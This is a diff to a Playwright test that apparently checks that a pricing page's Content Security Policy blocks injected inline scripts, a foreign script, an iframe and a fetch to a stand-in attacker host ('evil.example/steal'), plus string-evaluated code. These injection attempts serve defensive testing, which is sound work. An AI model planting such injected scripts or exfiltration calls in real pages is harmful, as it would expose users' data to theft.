@@ -28,8 +28,9 @@ test.describe("an injection", () => {
 
   test("X2: inline scripts, foreign scripts, frames and calls are blocked", async ({ page }) => {
     await page.goto("/pricing");
-    const violated = await page.evaluate(async () => {
+    await page.evaluate(() => {
       const seen: string[] = [];
+      Object.assign(window, { seen });
       document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
       const inline = document.createElement("script");
       inline.textContent = "window.injected = true";
@@ -38,19 +39,13 @@ test.describe("an injection", () => {
       const frame = document.createElement("iframe");
       frame.src = "https://evil.example/";
       document.body.append(inline, foreign, frame);
-      await fetch("https://evil.example/steal").catch(() => undefined);
-      try {
-        // biome-ignore lint/security/noGlobalEval: the policy must refuse it
-        eval("window.injected = true");
-      } catch {
-        seen.push("eval refused");
-      }
-      await new Promise((resolve) => requestAnimationFrame(resolve));
-      return seen;
+      void fetch("https://evil.example/steal").catch(() => undefined);
+      // A string for a timer is evaluated as script; code that the test itself evaluates would be let through.
+      setTimeout("window.injected = true");
     });
-    expect(new Set(violated)).toEqual(
-      new Set(["script-src-elem", "frame-src", "connect-src", "script-src", "eval refused"]),
-    );
+    const seen = () =>
+      page.evaluate(() => [...new Set((window as unknown as { seen: string[] }).seen)].sort());
+    await expect.poll(seen).toEqual(["connect-src", "frame-src", "script-src", "script-src-elem"]);
     expect(await page.evaluate(() => "injected" in window)).toBe(false);
   });
 });
